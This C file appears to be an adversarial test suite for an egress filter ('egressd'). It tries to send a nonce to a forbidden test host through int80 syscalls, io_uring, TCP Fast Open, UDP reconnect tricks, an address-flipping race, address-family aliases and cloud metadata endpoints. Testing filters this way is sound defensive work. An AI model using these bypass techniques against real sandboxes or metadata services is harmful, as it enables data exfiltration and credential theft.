/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Bytes to an address that is not allowed, by every call and spelling. */
#include "attack.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* arch/x86/entry/syscalls/syscall_32.tbl */
#define I386_SOCKET 359
#define I386_CONNECT 362
#define I386_SENDTO 369
#define I386_SENDMMSG 345

#define RACE 3000

static const struct dest evil = { EVIL4, PORT }, evil6 = { EVIL6, PORT };
static const struct dest ok = { OK4, PORT };

/* ---- TCP -------------------------------------------------------------------------- */

static int tcp_background(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss), size = sizeof(int);
	int fd = open_socket(ss.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0), err = 0;
	struct pollfd p = { .fd = fd, .events = POLLOUT };

	if (fd < 0)
		return fd;
	if (connect(fd, (void *)&ss, len) && errno != EINPROGRESS)
		return -errno;
	(void)poll(&p, 1, 10000);
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &size) || err)
		return err ? -err : -errno;
	return send_nonce(fd, NULL);
}

static int tcp_int80(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int r = need_int80(), fd;

	if (r)
		return r;
	fd = int80(I386_SOCKET, AF_INET, SOCK_STREAM, 0, 0, 0);
	if (fd < 0)
		return fd;
	r = int80(I386_CONNECT, fd, low(&ss, len), len, 0, 0);
	return r < 0 ? r : send_nonce(fd, NULL);
}

static int tcp_uring_with(const struct dest *dest, unsigned int flags)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_STREAM, 0), r;
	struct io_uring_sqe sqe = { .opcode = IORING_OP_CONNECT, .fd = fd,
				    .addr = (uintptr_t)&ss, .off = len };

	if (fd < 0)
		return fd;
	r = uring(&sqe, flags);
	return r < 0 ? r : send_nonce(fd, NULL);
}

static int tcp_uring(const void *dest)
{
	return tcp_uring_with(dest, 0);
}

static int tcp_uring_sqpoll(const void *dest)
{
	return tcp_uring_with(dest, IORING_SETUP_SQPOLL);
}

/* the socket, too, is the ring's */
static int tcp_uring_all(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = uring_socket(ss.ss_family, SOCK_STREAM, 0), r;
	struct io_uring_sqe sqe = { .opcode = IORING_OP_CONNECT, .fd = fd,
				    .addr = (uintptr_t)&ss, .off = len };

	if (fd < 0)
		return fd;
	r = uring(&sqe, 0);
	return r < 0 ? r : send_nonce(fd, NULL);
}

/* ---- Fast Open ----------------------------------------------------------------------- */

static int fastopen(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_STREAM, 0);

	if (fd < 0)
		return fd;
	return result(sendto(fd, world.nonce, NONCE, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&ss,
			     len));
}

static int fastopen_int80(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_STREAM, 0), r = need_int80();
	long args, data = low(world.nonce, NONCE), addr = low(&ss, len);
	/* socketcall(SYS_SENDTO): six arguments in an array */
	uint32_t call[6] = { (uint32_t)fd, (uint32_t)data, NONCE, MSG_FASTOPEN | MSG_NOSIGNAL,
			     (uint32_t)addr, len };

	if (r)
		return r;
	args = low(call, sizeof(call));
	return int80(102 /* socketcall */, 11, args, 0, 0, 0);
}

static int fastopen_uring(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	struct iovec iov = { world.nonce, NONCE };
	struct msghdr msg = { .msg_name = &ss, .msg_namelen = len, .msg_iov = &iov,
			      .msg_iovlen = 1 };
	int fd = open_socket(ss.ss_family, SOCK_STREAM, 0);
	struct io_uring_sqe sqe = { .opcode = IORING_OP_SENDMSG, .fd = fd, .addr = (uintptr_t)&msg,
				    .len = 1, .msg_flags = MSG_FASTOPEN | MSG_NOSIGNAL };

	return fd < 0 ? fd : uring(&sqe, 0);
}

static int fastopen_deferred(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_STREAM, 0), one = 1;

	if (fd < 0)
		return fd;
	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)) ||
	    connect(fd, (void *)&ss, len))
		return -errno;
	meet("connected"); /* a rule that was there goes */
	return send_nonce(fd, NULL);
}

/* ---- UDP ----------------------------------------------------------------------------- */

static int udp_message(int fd, const struct dest *to, bool many)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(to, &ss);
	struct iovec iov = { world.nonce, NONCE };
	struct mmsghdr m = { .msg_hdr = { .msg_name = &ss, .msg_namelen = len, .msg_iov = &iov,
					  .msg_iovlen = 1 } };

	if (fd < 0)
		return fd;
	return many ? result(sendmmsg(fd, &m, 1, 0)) : result(sendmsg(fd, &m.msg_hdr, 0));
}

static int udp_sendmsg(const void *dest)
{
	return udp_message(open_socket(AF_INET, SOCK_DGRAM, 0), dest, false);
}

static int udp_sendmmsg(const void *dest)
{
	return udp_message(open_socket(AF_INET, SOCK_DGRAM, 0), dest, true);
}

/* The error of the second is lost when the first went: it is the next call's. */
static int udp_second(const void *dest)
{
	struct sockaddr_storage to[2];
	struct iovec iov[2] = { { (void *)"harmless", 8 }, { world.nonce, NONCE } };
	struct mmsghdr m[2] = {};
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0), i, sent;

	if (fd < 0)
		return fd;
	for (i = 0; i < 2; i++) {
		socklen_t len = to_sockaddr(i ? dest : (const void *)&ok, &to[i]);

		m[i].msg_hdr = (struct msghdr){ .msg_name = &to[i], .msg_namelen = len,
						.msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	sent = sendmmsg(fd, m, 2, 0);
	return sent < 0 ? -errno : sent == 2 ? 0 : -EPERM;
}

static int udp_connected(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_DGRAM, 0);

	if (fd < 0)
		return fd;
	return connect(fd, (void *)&ss, len) ? -errno : send_nonce(fd, NULL);
}

static int udp_int80(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_DGRAM, 0), r = need_int80();
	long data = low(world.nonce, NONCE), addr = low(&ss, len);
	uint32_t call[6] = { (uint32_t)fd, (uint32_t)data, NONCE, 0, (uint32_t)addr, len };

	return r ? r : int80(102 /* socketcall */, 11, low(call, sizeof(call)), 0, 0, 0);
}

static int connected_to_ok(void)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(&ok, &ss);
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	return fd < 0 ? fd : connect(fd, (void *)&ss, len) ? -errno : fd;
}

static int udp_to_other(const void *dest)
{
	return send_nonce(connected_to_ok(), dest);
}

static int udp_reconnect(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = connected_to_ok();

	if (fd < 0)
		return fd;
	return connect(fd, (void *)&ss, len) ? -errno : send_nonce(fd, NULL);
}

static int udp_dissolved(const void *dest)
{
	struct sockaddr nobody = { .sa_family = AF_UNSPEC };
	int fd = connected_to_ok();

	if (fd < 0)
		return fd;
	return connect(fd, &nobody, sizeof(nobody)) ? -errno : send_nonce(fd, dest);
}

/* Corked for ok, then for another. */
static int udp_corked(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return fd;
	if (sendto(fd, world.nonce, NONCE, MSG_MORE, (void *)&ss, len) < 0)
		return -errno;
	return result(send(fd, "x", 1, 0));
}

/* ---- io_uring senders ------------------------------------------------------------------ */

#define OP_SEND_ZC 47
#define OP_SENDMSG_ZC 48

static int uring_sender(uint8_t op, unsigned int flags)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(&evil, &ss);
	struct iovec iov = { world.nonce, NONCE };
	struct msghdr msg = { .msg_name = &ss, .msg_namelen = len, .msg_iov = &iov,
			      .msg_iovlen = 1 };
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0), r;
	struct io_uring_sqe sqe = { .opcode = op, .fd = fd };

	if (fd < 0)
		return fd;
	if (op == IORING_OP_SENDMSG || op == OP_SENDMSG_ZC) {
		sqe.addr = (uintptr_t)&msg;
		sqe.len = 1;
	} else {
		/* since 6.0 with an address: addr2, and its length above the splice descriptor */
		sqe.addr = (uintptr_t)world.nonce;
		sqe.len = NONCE;
		sqe.addr2 = (uintptr_t)&ss;
		sqe.splice_fd_in = (int32_t)len;
	}
	r = uring(&sqe, flags);
	return r == -EINVAL ? cannot("this kernel's io_uring has no such request") : r;
}

struct sender {
	uint8_t op;
	bool sqpoll;
};

static int uring_send(const void *arg)
{
	const struct sender *s = arg;

	return uring_sender(s->op, s->sqpoll ? IORING_SETUP_SQPOLL : 0);
}

#define SENDER(op, poll) &(const struct sender){ op, poll }

/* ---- an address that changes while it is looked at ---------------------------------------- */

static volatile bool flipping = true;
static struct sockaddr_in flipped;

static void *flip(void *unused)
{
	struct sockaddr_storage one, two;

	(void)to_sockaddr(&ok, &one);
	(void)to_sockaddr(&evil, &two);
	while (flipping) {
		flipped.sin_addr = ((struct sockaddr_in *)&one)->sin_addr;
		flipped.sin_addr = ((struct sockaddr_in *)&two)->sin_addr;
	}
	return unused;
}

static int race(const void *connecting)
{
	struct sockaddr_storage ss;
	pthread_t thread;
	int fd = -1, i, r = 0, refused = 0;

	(void)to_sockaddr(&ok, &ss);
	memcpy(&flipped, &ss, sizeof(flipped));
	if (pthread_create(&thread, NULL, flip, NULL))
		return cannot("no thread");
	for (i = 0; i < RACE; i++) {
		if (!connecting || fd < 0)
			fd = fd < 0 ? open_socket(AF_INET, SOCK_DGRAM, 0) : fd;
		if (!connecting)
			r = result(sendto(fd, world.nonce, NONCE, 0, (void *)&flipped,
					  sizeof(flipped)));
		else if (!(r = result(connect(fd, (void *)&flipped, sizeof(flipped)))))
			r = send_nonce(fd, NULL);
		if (r == -EPERM)
			refused++;
	}
	flipping = false;
	(void)pthread_join(thread, NULL);
	return refused ? -EPERM : 0;
}

/* ---- a flow that is open when its rule goes ------------------------------------------------ */

static int kept_flow(int type)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(&evil, &ss);
	int fd = open_socket(AF_INET, type, 0);

	if (fd < 0)
		return fd;
	if (connect(fd, (void *)&ss, len) || send(fd, "before", 6, MSG_NOSIGNAL) < 0)
		return -errno;
	meet("connected");
	return send_nonce(fd, NULL);
}

static int kept_tcp(const void *unused)
{
	(void)unused;
	return kept_flow(SOCK_STREAM);
}

static int kept_udp(const void *unused)
{
	(void)unused;
	return kept_flow(SOCK_DGRAM);
}

#define TO(a, p) &(const struct dest){ a, p }
#define ROW(n, f, to, j) { .name = n, .run = f, .arg = to, .judge = j, .err = "EPERM", \
			   .event = "connect/rule send/rule" }
#define LOCAL(n, f, to) { .name = n, .run = f, .arg = to, .judge = "host", .err = "EPERM", \
			  .event = "connect/loopback send/loopback connect/rule" }
#define BROAD(n, f, a, e) { .name = n, .run = f, .arg = TO(a, PORT), .judge = "evil", \
			    .err = "EPERM", .event = e, .policy = "broad" }

#define TWIN(n, f, a, j) { .name = n, .run = f, .arg = TO(a, PORT), .judge = j, .err = "" }

const struct attack attacks_address[] = {
	TWIN("A01:allowed", tcp_to, OK4, "ok"),
	TWIN("A01:allowed6", tcp_to, OK6, "ok"),
	TWIN("A02:allowed", udp_to, OK4, "ok"),
	TWIN("A05:allowed", tcp_to, "::ffff:" OK4, "ok"),
	TWIN("A13:allowed", fastopen, OK4, "ok"),
	TWIN("A27:allowed", tcp_uring_sqpoll, OK4, "ok"),
	ROW("A01:tcp4", tcp_to, &evil, "evil"),
	ROW("A01:tcp6", tcp_to, &evil6, "evil"),
	ROW("A01:port", tcp_to, TO(OK4, PORT2), "ok"),
	ROW("A01:port6", tcp_to, TO(OK6, PORT2), "ok"),
	ROW("A01:protocol", udp_to, TO(OK4, 443), "ok"), /* allowed by TCP alone */
	ROW("A01:network-address", tcp_to, TO("10.203.1.3", PORT), "ok"), /* beside a /32 */
	ROW("A01:background", tcp_background, &evil, "evil"),
	ROW("A01:int80", tcp_int80, &evil, "evil"),

	ROW("A02:sendto", udp_to, &evil, "evil"),
	ROW("A02:sendto6", udp_to, &evil6, "evil"),
	ROW("A02:sendmsg", udp_sendmsg, &evil, "evil"),
	ROW("A02:sendmmsg", udp_sendmmsg, &evil, "evil"),
	ROW("A02:sendmmsg-second", udp_second, &evil, "evil"),
	ROW("A02:connected", udp_connected, &evil, "evil"),
	ROW("A02:int80", udp_int80, &evil, "evil"),

	ROW("A03:sendto", udp_to_other, &evil, "evil"),
	ROW("A03:reconnect", udp_reconnect, &evil, "evil"),
	ROW("A03:unspec", udp_dissolved, &evil, "evil"),
	ROW("A03:corked", udp_corked, &evil, "evil"),

	ROW("A05:tcp", tcp_to, TO("::ffff:" EVIL4, PORT), "evil"),
	ROW("A05:udp", udp_to, TO("::ffff:" EVIL4, PORT), "evil"),
	LOCAL("A05:loopback", tcp_to, TO("::ffff:127.0.0.1", RELAY)),
	LOCAL("A05:any", tcp_to, TO("::ffff:0.0.0.0", RELAY)),

	LOCAL("A07:any", tcp_to, TO("0.0.0.0", RELAY)),
	LOCAL("A07:any6", tcp_to, TO("::", RELAY)),
	LOCAL("A07:udp-any", udp_to, TO("0.0.0.0", RELAY)),
	LOCAL("A07:127.1.2.3", tcp_to, TO("127.1.2.3", RELAY)),
	LOCAL("A07:own-address", tcp_to, TO("10.203.2.1", RELAY)),
	LOCAL("A07:own-address6", tcp_to, TO("fd20:2::1", RELAY)),
	ROW("A07:link-local", tcp_to, TO("fe80::2%evil", PORT), "evil"),
	ROW("A07:subnet-broadcast", udp_to, TO("10.203.2.255", PORT), "evil"),
	ROW("A07:multicast", udp_to, TO("224.0.0.251", PORT), "any"),
	ROW("A07:multicast6", udp_to, TO("ff02::1%evil", PORT), "evil"),

	BROAD("A08:aws", tcp_to, "169.254.169.254", "connect/metadata"),
	BROAD("A08:aws-udp", udp_to, "169.254.169.254", "send/metadata"),
	BROAD("A08:aws6", tcp_to, "fd00:ec2::254", "connect/metadata"),
	BROAD("A08:mapped", tcp_to, "::ffff:169.254.169.254", "connect/metadata"),
	BROAD("A08:azure", tcp_to, "168.63.129.16", "connect/metadata"),
	BROAD("A08:alibaba", tcp_to, "100.100.100.200", "connect/metadata"),
	BROAD("A08:twin-denied", tcp_to, EVIL4, "connect/rule"), /* `deny` under the same */

	BROAD("A09:nat64", tcp_to, "64:ff9b::10.203.2.2", "connect/rule"),
	BROAD("A09:nat64-local", udp_to, "64:ff9b:1::10.203.2.2", "send/rule"),
	BROAD("A09:6to4", tcp_to, "2002:acb:202::1", "connect/rule"),
	BROAD("A09:teredo", udp_to, "2001:0:acb:202::1", "send/rule"),
	BROAD("A09:compatible", tcp_to, "::10.203.2.2", "connect/rule"),

	ROW("A11:sendto", race, NULL, "evil"),
	ROW("A11:connect", race, "connect", "evil"),

	ROW("A13:sendto", fastopen, &evil, "evil"),
	ROW("A13:sendto6", fastopen, &evil6, "evil"),
	ROW("A13:int80", fastopen_int80, &evil, "evil"),
	ROW("A13:uring", fastopen_uring, &evil, "evil"),

	{ .name = "A14:revoked", .run = fastopen_deferred, .arg = &evil, .judge = "evil",
	  .err = "EPERM ECONNABORTED ECONNRESET EPIPE ETIMEDOUT",
	  .event = "connect/rule packet/revoked packet/rule send/revoked connect/revoked" },

	ROW("A27:connect", tcp_uring, &evil, "evil"),
	ROW("A27:connect-sqpoll", tcp_uring_sqpoll, &evil, "evil"),
	ROW("A27:socket-connect", tcp_uring_all, &evil, "evil"),
	ROW("A27:sendmsg", uring_send, SENDER(IORING_OP_SENDMSG, false), "evil"),
	ROW("A27:sendmsg-sqpoll", uring_send, SENDER(IORING_OP_SENDMSG, true), "evil"),
	ROW("A27:send", uring_send, SENDER(IORING_OP_SEND, false), "evil"),
	ROW("A27:send-zc", uring_send, SENDER(OP_SEND_ZC, false), "evil"),
	ROW("A27:send-zc-sqpoll", uring_send, SENDER(OP_SEND_ZC, true), "evil"),
	ROW("A27:sendmsg-zc", uring_send, SENDER(OP_SENDMSG_ZC, false), "evil"),

	/* egressd closes them as well: then there is nothing left to report */
	{ .name = "A37:tcp", .run = kept_tcp, .judge = "evil",
	  .err = "EPERM ECONNABORTED ECONNRESET EPIPE" },
	{ .name = "A37:udp", .run = kept_udp, .judge = "evil",
	  .err = "EPERM ECONNABORTED EDESTADDRREQ" },
	{},
};
